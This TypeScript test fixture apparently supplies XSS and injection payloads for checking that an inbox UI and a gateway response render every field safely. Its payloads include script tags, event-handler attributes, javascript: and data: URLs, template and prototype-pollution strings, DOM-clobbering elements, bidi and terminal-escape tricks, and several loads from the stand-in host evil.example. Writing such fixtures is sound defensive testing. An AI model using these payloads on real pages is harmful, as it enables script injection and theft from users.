import { isWellFormed } from '../../../policy/contracts/canonical-json';

/**
 * Strings that run `xss()`, load something from another host, or change the page, if a page renders them as anything but text. Each is
 * written once and placed in every field that reaches the inbox.
 */
export const SCRIPT_STRINGS: readonly string[] = [
  // Elements
  '<script>xss()</script>',
  '</title><script>xss()</script>',
  '--><script>xss()</script>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=javascript:xss()><button autofocus>Confirm</button></form>',
  // Handlers
  '<img src=x onerror=xss()>',
  '<img src=x\nonerror=xss()>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  // Attributes
  '" onmouseover="xss()',
  "' autofocus onfocus='xss()",
  '"><svg onload=xss()>',
  '" href="javascript:xss()',
  '&quot; onclick=&quot;xss()',
  // Elements of other namespaces
  '<svg onload=xss()>',
  '<svg><a xlink:href=javascript:xss()><text y=20>Confirm</text></a></svg>',
  '<svg><image href=//evil.example/i.svg></svg>',
  '<math><mtext><script>xss()</script></mtext></math>',
  // Addresses
  'javascript:xss()',
  'java\nscript:xss()',
  'data:text/html,<script>opener.xss()</script>',
  '//evil.example/xss',
  '../../../../inbox/api/logout',
  '#enroll=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  // Templates, and names of members that every object has
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '\u2028xss()\u2029',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss()>"}}',
  '__proto__',
  'constructor',
  // Styles
  '<style>*{background:url(//evil.example/s)}</style>',
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Approved by security</p>',
  // A property of `document` or `window` that a page reads, taken over by an element with this name
  '<img name=getElementById>',
  '<form name=body><input id=innerHTML>',
  // Text that hides, reorders or imitates what a person reads
  '\u202exss()\u202c',
  '\u0000<script>xss()</script>',
  '\ud800<script>xss()</script>',
  '\u001b]8;;javascript:xss()\u0007Confirm\u001b]8;;\u0007',
  // Long text: with a limit on it, the cut must not create an element
  `${'A'.repeat(1_000)}<img src=x onerror=xss()>`,
  'W'.repeat(1_500),
];

/** For fields that are stored as UTF-8 text in PostgreSQL: without U+0000 and lone surrogates, at most `bytes` long, distinct. */
export function storable(bytes: number): readonly string[] {
  const kept = SCRIPT_STRINGS.filter((text) => isWellFormed(text) && !text.includes('\u0000'));
  return [...new Set(kept.filter((text) => Buffer.byteLength(text) <= bytes))];
}

/** Values that are not strings, for a field of a gateway response that is declared as a string. */
export const NOT_STRINGS: readonly unknown[] = [
  { __html: '<img src=x onerror=xss()>' },
  { dangerouslySetInnerHTML: { __html: '<img src=x onerror=xss()>' } },
  { type: 'img', props: { src: 'x', onerror: 'xss()' }, key: null, ref: null },
  { type: 'script', props: { children: 'xss()' }, constructor: null, __v: 1, __k: null },
  { toString: 'xss()', valueOf: 'xss()' },
  ['<img src=x onerror=xss()>'],
  [{ type: 'iframe', props: { srcdoc: '<script>parent.xss()</script>' } }],
  { constructor: { prototype: { xss: true } } },
  true,
  7,
  null,
];
